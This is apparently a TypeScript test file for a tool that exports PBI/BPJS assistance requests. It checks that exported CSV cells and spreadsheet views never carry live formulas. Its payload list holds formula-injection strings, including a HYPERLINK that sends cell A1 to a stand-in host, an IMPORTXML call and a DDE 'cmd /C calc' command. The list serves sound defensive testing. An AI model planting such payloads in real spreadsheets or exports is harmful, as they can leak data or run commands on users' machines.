/**
 * Formula injection: a request's text that a spreadsheet would run as a formula (=, +, -, @, or a
 * tab before them) never reaches an export or the BPJS view as a live formula.
 */
import { syncBpjs } from "../../src/gas/bpjs";
import type { FakeEnv } from "../fakes";
import { cli } from "../cli/helpers";
import { eligible, freshEnv, preparedSheet, TODAY, writeRows } from "../gas/helpers";

const PAYLOADS = ['=HYPERLINK("http://x.test/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "=IMPORTXML(\"http://x.test\",\"//a\")"];
/** What a spreadsheet program would run: the text starts with a formula character (a lone sign is no formula). */
const live = (text: string) => text.length > 1 && /^[=+\-@\t\r]/.test(text);

/** CSV fields of one line (quotes as written by the CLI: doubled inside quoted fields). */
function fields(line: string, delimiter: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let j = i + 1;
      let text = "";
      for (;;) {
        if (line[j] === '"' && line[j + 1] === '"') (text += '"'), (j += 2);
        else if (line[j] === '"') break;
        else text += line[j++];
      }
      out.push(text);
      i = j + 2;
    } else {
      const end = line.indexOf(delimiter, i);
      out.push(line.slice(i, end < 0 ? line.length : end));
      i = end < 0 ? line.length + 1 : end + 1;
    }
  }
  return out;
}

test("pbijk check --output: no exported cell is a live formula, the text is kept after the apostrophe", async () => {
  const header = "Nama,NIK,Nomor KK,Tanggal Permohonan,Tanggal SK Penonaktifan,Status DTSEN/DTKS,Desil,Nomor HP,Catatan";
  const rows = PAYLOADS.map((p, i) => [p, `327301410190000${i + 1}`, "3273010101100001", "20/11/2026", "01/08/2026", "Terdaftar", "2", p, p]);
  const quote = (c: string) => (/[",\n\t]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
  const files: Record<string, string | Uint8Array> = { "in.csv": [header, ...rows.map((r) => r.map(quote).join(","))].join("\n") };
  const result = await cli(["check", "in.csv", "--today", "2026-11-24", "--output", "out.csv"], files);
  expect(result.code).not.toBe(2); // a usage or file error would leave nothing to inspect
  const out = files["out.csv"];
  const text = typeof out === "string" ? out : new TextDecoder().decode(out);
  const lines = text.replace(/^\uFEFF/, "").split(/\r\n/).filter(Boolean);
  const delimiter = lines[0]!.includes(";") ? ";" : ",";
  const cells = lines.flatMap((l) => fields(l, delimiter));
  expect(cells.filter(live)).toEqual([]);
  for (const p of PAYLOADS) expect(cells).toContain(`'${p}`);
});

describe("the BPJS view", () => {
  let env: FakeEnv;
  beforeEach(() => {
    env = freshEnv();
  });
  afterEach(() => env.uninstall());

  test("a name, KIS number or letter number holding formula text lands as inert text", () => {
    const sheet = preparedSheet(env);
    writeRows(sheet, PAYLOADS.map((p, i) => eligible(p, i + 1, {
      "ID Permohonan": `PBI-2026-0000${i + 1}`, Tahap: "Diserahkan", "Nomor Surat": p, "Nomor Kartu KIS": p, "Diserahkan Pada": "21/11/2026 10:00",
    })));
    const settings = env.spreadsheet.getSheetByName("Pengaturan")!;
    settings.getRange(settings.getLastRow() + 1, 1, 1, 2).setValues([["operator@dinsos.go.id", "operator"]]);
    env.setUser("operator@dinsos.go.id");
    syncBpjs(env.spreadsheet, TODAY);
    const view = env.spreadsheet.getSheetByName("Untuk BPJS")!;
    const range = view.getDataRange();
    const values = range.getValues();
    const formats = range.getNumberFormats();
    expect(values.length).toBe(PAYLOADS.length + 1);
    // Live only where the cell is not plain text ("@" keeps typed or written formula text as text).
    const liveCells = values.flatMap((row, r) => row.flatMap((v, c) => (typeof v === "string" && live(v) && formats[r]![c] !== "@" ? [`${r + 1}:${c + 1}`] : [])));
    expect(liveCells).toEqual([]);
    expect(JSON.stringify(values)).toContain("HYPERLINK");
  });
});
